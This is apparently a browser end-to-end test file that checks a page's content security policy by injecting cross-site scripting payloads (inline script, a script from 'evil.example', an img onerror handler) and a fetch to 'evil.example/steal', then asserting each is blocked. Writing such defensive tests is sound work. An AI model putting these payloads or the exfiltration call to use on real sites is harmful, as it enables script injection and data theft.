import { expect, test, untilInteractive } from '../journey.ts';

test.describe('the policy of a page', () => {
  test('[SEC-03] blocks injected scripts and markup, and requests to other sites', async ({
    page,
    consoleErrors,
  }) => {
    // Simulates a title that was rendered unescaped.
    await page.route('**/live/', async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      const injected =
        '<script>window.injected = 1</script><script src="https://evil.example/x.js"></script><img src="/none.png" onerror="window.injected = 2">';
      await route.fulfill({
        response,
        body: html.replace('</body>', `${injected}</body>`),
      });
    });
    await page.goto('/live/');
    await untilInteractive(page);
    const outcomes = await page.evaluate(async () => {
      const outcomeOf = async (attempt: () => unknown) => {
        try {
          await attempt();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const newScript = () => document.createElement('script');
      return {
        injected: (window as { injected?: number }).injected ?? null,
        markup: await outcomeOf(() => (document.createElement('div').innerHTML = '<b>x</b>')),
        scriptText: await outcomeOf(() => (newScript().text = 'window.injected = 3')),
        scriptAddress: await outcomeOf(() => (newScript().src = '/assets/x.js')),
        call: await outcomeOf(() => fetch('https://evil.example/steal')),
        policy: await outcomeOf(() =>
          (
            window as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => object };
            }
          ).trustedTypes.createPolicy('injected', {}),
        ),
        parsing: await outcomeOf(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      };
    });
    expect(outcomes).toEqual({
      injected: null,
      markup: 'TypeError',
      scriptText: 'TypeError',
      scriptAddress: 'TypeError',
      call: 'TypeError',
      policy: 'TypeError',
      parsing: 'TypeError',
    });
    // The browser reported each blocked attempt.
    expect(consoleErrors.length).toBeGreaterThan(5);
    consoleErrors.length = 0;
  });
});
